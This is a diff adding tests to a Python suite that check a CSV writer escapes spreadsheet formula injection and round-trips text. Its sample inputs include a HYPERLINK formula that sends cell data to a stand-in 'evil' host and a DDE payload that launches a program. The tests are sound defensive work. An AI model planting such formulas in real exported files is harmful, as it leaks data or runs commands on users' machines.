@@ -132,6 +132,66 @@ def test_nested_values_are_json_in_a_csv(tmp_path: Path) -> None:
     assert [cell and json.loads(cell) for cell in found] == votes
 
 
+FORMULAS = (
+    '=HYPERLINK("http://evil/?"&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1)",
+    "\n=1",
+    "\uff1d1",
+    "x;=1+1;y",
+    "'=already",
+    "plain",
+)
+
+
+def test_no_text_of_a_csv_is_a_formula_and_all_come_back(tmp_path: Path) -> None:
+    path = tmp_path / "table.csv"
+    frame = pl.DataFrame({"prompt": FORMULAS, "=named": ["-a"] * 9, "n": [-0.5] * 9})
+    write_user_table(path, frame)
+    cells = path.read_text("utf-8").replace(";", ",").replace("\n", ",").split(",")
+    texts = [cell.strip('"') for cell in cells if cell != "-0.5"]
+    assert not [cell for cell in texts if cell[:1] in tuple("=+-@\uff1d")]
+    assert read_user_table(path).equals(frame.with_columns(pl.col("n").cast(pl.String)))
+
+
+@settings(max_examples=60, deadline=None)
+@given(
+    st.lists(st.text(st.sampled_from("'=+-@;,\"\n\ta ")), min_size=1),
+    st.sampled_from([["=1"], ["a"], [None], ["'-"]]),
+)
+def test_what_one_verb_writes_the_next_one_reads(
+    tmp_path_factory: pytest.TempPathFactory, texts: list[str], more: list[str | None]
+) -> None:
+    path = tmp_path_factory.mktemp("tables") / "table.csv"
+    frame = pl.DataFrame(
+        {"prompt": texts, "more": more * len(texts)}, schema_overrides={"more": pl.String}
+    )
+    for _ in range(2):
+        write_user_table(path, frame)
+        frame = read_user_table(path)
+    assert frame["prompt"].to_list() == texts
+    assert frame["more"].to_list() == more * len(texts)
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"prompt\n'+' overloading in C++\n",
+        b"prompt\n'=SUM(A1)' does not work\nplain\n",
+        b'"prompt"\n"\'+\' overloading"\n"- a bullet"\n',
+        b'"prompt","\'=x"\n"a","=1"\n',
+        b'"prompt"\n"\'+\' overloading"\n',
+        b'"prompt","n"\r\n\'=x,1\r\n',
+    ],
+)
+def test_an_apostrophe_in_somebody_elses_csv_is_part_of_the_text(
+    tmp_path: Path, data: bytes
+) -> None:
+    frame = read_user_table(written(tmp_path, "table.csv", data))
+    assert frame.equals(pl.read_csv(data, infer_schema=False))
+
+
 def test_an_unknown_ending_is_refused_before_anything_is_written(tmp_path: Path) -> None:
     with pytest.raises(TableUnreadableError, match="must end in one of"):
         write_user_table(tmp_path / "table.txt", pl.DataFrame({"prompt": ["a"]}))
